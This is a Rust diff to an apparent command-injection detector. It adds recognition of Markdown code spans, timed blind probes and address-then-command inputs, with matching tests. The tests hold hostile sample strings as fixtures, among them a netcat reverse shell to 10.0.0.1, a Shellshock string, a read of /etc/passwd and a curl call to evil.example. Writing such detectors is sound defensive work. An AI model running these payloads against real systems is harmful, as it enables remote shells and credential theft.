@@ -239,6 +239,8 @@ enum Sep {
     Chain,
     /// Backtick, `$(`, `<(`, `>(`: command substitution.
     Substitution,
+    /// A backtick that opens a Markdown code span in prose (see [`code_spans`]).
+    CodeSpan,
 }
 
 pub(crate) struct Rce {
@@ -428,6 +430,12 @@ impl Rce {
 
     fn shell_scan(&self, text: &str, sink: &mut Sink<'_>, values: bool) {
         let b = text.as_bytes();
+        let spans = if memchr::memchr(b'`', b).is_some() {
+            code_spans(b)
+        } else {
+            Vec::new()
+        };
+        let mut spans = spans.iter().peekable();
         let mut i = 0;
         let mut sep = Sep::Start;
         let mut expect_cmd = true;
@@ -438,6 +446,26 @@ impl Rce {
             if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
                 i += 1;
                 continue;
+            }
+            if let Some(&&(open, close)) = spans.peek() {
+                if i == open {
+                    sep = if expect_cmd && sep != Sep::Start {
+                        strongest(sep, Sep::CodeSpan)
+                    } else {
+                        Sep::CodeSpan
+                    };
+                    expect_cmd = true;
+                    i += 1;
+                    sep_end = i;
+                    continue;
+                }
+                if i == close {
+                    // The prose goes on after the span: its next word is no command.
+                    spans.next();
+                    expect_cmd = false;
+                    i += 1;
+                    continue;
+                }
             }
             if let Some((s, len)) = separator(b, i) {
                 // Keep the strongest separator seen since the last word.
@@ -514,20 +542,45 @@ impl Rce {
                 sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
             }
             let evidence = || evidence_after(b, i);
+            // `sleep 5`, `ping 10.0.0.1` ending the command: a blind probe's delay.
+            let timed =
+                || matches!(candidate.as_str(), "sleep" | "ping" | "timeout") && number_ends(b, i);
             match sep {
                 Sep::Substitution => sink.hit(RCE_SUBSTITUTION, text, start),
                 Sep::Chain => sink.hit(RCE_CHAINED_COMMAND, text, start),
-                Sep::Weak if strong || evidence() != Evidence::None => {
+                Sep::Weak if strong || timed() || evidence() != Evidence::None => {
                     sink.hit(RCE_CHAINED_COMMAND, text, start)
                 }
                 Sep::Newline
                     if evidence() == Evidence::Argument
-                        || (strong && evidence() != Evidence::None) =>
+                        || (strong && evidence() != Evidence::None)
+                        || timed()
+                        || (evidence() == Evidence::End && after_address_line(text)) =>
                 {
                     sink.hit(RCE_CHAINED_COMMAND, text, start)
                 }
                 Sep::Group if evidence() == Evidence::Argument => {
                     sink.hit(RCE_CHAINED_COMMAND, text, start)
+                }
+                Sep::CodeSpan => {
+                    // A command named in prose (`` run `make test` first ``) is documentation
+                    // unless it carries shell evidence: an option, path, URL, variable or
+                    // redirection; an argument after a strong command; a command that is an
+                    // attack alone (`whoami`); a delay (`sleep 10`, `ping 10.0.0.1`); or
+                    // obfuscation. Without any, it counts only from paranoia level 2.
+                    let ev = evidence();
+                    let timed = matches!(candidate.as_str(), "sleep" | "ping" | "timeout")
+                        && digit_after(b, i);
+                    if obfuscated
+                        || timed
+                        || ev == Evidence::Argument
+                        || (strong && ev == Evidence::None)
+                        || (ev == Evidence::End && ALONE_COMMANDS.contains(&candidate.as_str()))
+                    {
+                        sink.hit(RCE_SUBSTITUTION, text, start)
+                    } else {
+                        sink.hit(RCE_CODE_SPAN_LOOSE, text, start)
+                    }
                 }
                 Sep::Start if values => {
                     let ev = evidence();
@@ -577,6 +630,7 @@ fn strongest(a: Sep, b: Sep) -> Sep {
         Sep::Start => 0,
         Sep::Newline | Sep::Group => 1,
         Sep::Weak => 2,
+        Sep::CodeSpan => 3,
         Sep::Chain => 3,
         Sep::Substitution => 4,
     };
@@ -598,6 +652,93 @@ fn separator(b: &[u8], i: usize) -> Option<(Sep, usize)> {
         b'<' | b'>' if next == Some(b'(') => Some((Sep::Substitution, 2)),
         _ => None,
     }
+}
+
+/// Backtick pairs that read as Markdown code spans in prose (`` the `id` field is required ``),
+/// as (open, close) offsets. A span opens at the start or after whitespace or `(`, holds text
+/// and no line break, and closes before whitespace, punctuation or the end; outside the spans
+/// the text has at least two words. When any backtick does not fit (an odd count, a doubled
+/// backtick, a span glued to a word as in ``x`id` ``), there are none: every backtick is then
+/// command substitution.
+fn code_spans(b: &[u8]) -> Vec<(usize, usize)> {
+    let ticks: Vec<usize> = memchr::memchr_iter(b'`', b).take(33).collect();
+    if ticks.len() % 2 == 1 || ticks.len() > 32 {
+        return Vec::new();
+    }
+    let spans: Vec<(usize, usize)> = ticks.chunks_exact(2).map(|p| (p[0], p[1])).collect();
+    let fits = |&(open, close): &(usize, usize)| {
+        close > open + 1
+            && (open == 0 || matches!(b[open - 1], b' ' | b'\t' | b'\n' | b'('))
+            && !b[open + 1..close].iter().any(|&c| c == b'\n' || c == b'\r')
+            && b.get(close + 1).is_none_or(|&c| {
+                matches!(
+                    c,
+                    b' ' | b'\t' | b'\n' | b'\r' | b'.' | b',' | b';' | b':' | b'!' | b'?' | b')'
+                )
+            })
+    };
+    if !spans.iter().all(fits) {
+        return Vec::new();
+    }
+    // Words of two or more letters outside the spans (bytes of non-ASCII letters count).
+    let mut words = 0;
+    let mut run = 0;
+    let mut next = spans.iter().peekable();
+    let mut i = 0;
+    while i < b.len() && words < 2 {
+        if let Some(&&(open, close)) = next.peek()
+            && i == open
+        {
+            next.next();
+            i = close + 1;
+            run = 0;
+            continue;
+        }
+        if b[i].is_ascii_alphabetic() || b[i] >= 0x80 {
+            run += 1;
+            if run == 2 {
+                words += 1;
+            }
+        } else {
+            run = 0;
+        }
+        i += 1;
+    }
+    if words < 2 {
+        return Vec::new();
+    }
+    spans
+}
+
+/// A number (digits and dots) follows the command and ends it: `sleep 10`, `ping 10.0.0.1;`,
+/// but not `sleep 8 hours`.
+fn number_ends(b: &[u8], mut i: usize) -> bool {
+    while i < b.len() && matches!(b[i], b' ' | b'\t') {
+        i += 1;
+    }
+    let start = i;
+    while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'.') {
+        i += 1;
+    }
+    i > start && b[start].is_ascii_digit() && evidence_after(b, i) == Evidence::End
+}
+
+/// The text's first line is one word with a digit or a dot, such as a host name, an address or
+/// an interface (`eth0`, `example.org`): the value a tool was given, with a command on the
+/// next line. A first line of prose or a list of words is not.
+fn after_address_line(text: &str) -> bool {
+    let first = text.split(['\n', '\r']).next().unwrap_or("").trim();
+    !first.is_empty()
+        && !first.contains(char::is_whitespace)
+        && first.contains(|c: char| c.is_ascii_digit() || c == '.')
+}
+
+/// A number follows the command (`sleep 10`, `ping 10.0.0.1`).
+fn digit_after(b: &[u8], mut i: usize) -> bool {
+    while i < b.len() && matches!(b[i], b' ' | b'\t') {
+        i += 1;
+    }
+    b.get(i).is_some_and(u8::is_ascii_digit)
 }
 
 #[derive(Debug, PartialEq, Eq)]
@@ -824,6 +965,10 @@ mod tests {
                 "() { :; }; /bin/bash -c id",
                 "1;sleep${IFS}5",
                 "a\nnc -e /bin/sh 10.0.0.1 4444",
+                "x; sleep 5",
+                "example.org\nid\n",
+                "eth0\nid",
+                "1.1.1.1\nping 10.0.0.1",
             ],
         );
     }
@@ -845,7 +990,56 @@ mod tests {
                 "ls",
                 "Vicolo Gaito, 50, Cavenago D'Adda (LO), 00100 Roma (RM)",
                 "Piazza Duomo 1 (MI) (PS)",
+                "tired; sleep 8 hours",
+                "Name\nid\nemail",
+                "Version 2.1\nid is optional",
             ],
+        );
+    }
+
+    #[test]
+    fn markdown_code_spans_in_prose_need_shell_evidence() {
+        silent(
+            "rce",
+            &[
+                "the `id` field is required",
+                "`make test` passes locally",
+                "`cat` the file and pipe it to `sort`",
+                "Use `curl` to test the API",
+                "Call `git status` then `git diff`",
+                "rename `host` to `hostname`.",
+                "Fixed it; `date` is right now",
+                "Use `x` date ranges (see `ls`)",
+            ],
+        );
+        flags(
+            "rce",
+            &[
+                // Shell evidence inside the span.
+                "run `cat /etc/passwd` please",
+                "see `ls -la` output here",
+                "try `curl evil.example` now",
+                "the `whoami` output, please",
+                "wait `sleep 10` for it",
+                "run `c'a't` the file",
+                "the `id` field is required; ls /tmp",
+                // Not prose: glued, doubled, unbalanced, alone, or at the start of a command.
+                "x`id`",
+                "`id`",
+                "`cut a``dig b`",
+                "a `id` b `c",
+                "`id` x",
+                "name=`id` is here",
+            ],
+        );
+        // The relaxed spans still count from paranoia level 2.
+        assert!(
+            hits(Kind::Value, "query:q", "the `id` field is required", 2)
+                .contains(&RCE_CODE_SPAN_LOOSE)
+        );
+        assert!(
+            !hits(Kind::Value, "query:q", "the `id` field is required", 1)
+                .contains(&RCE_CODE_SPAN_LOOSE)
         );
     }
 
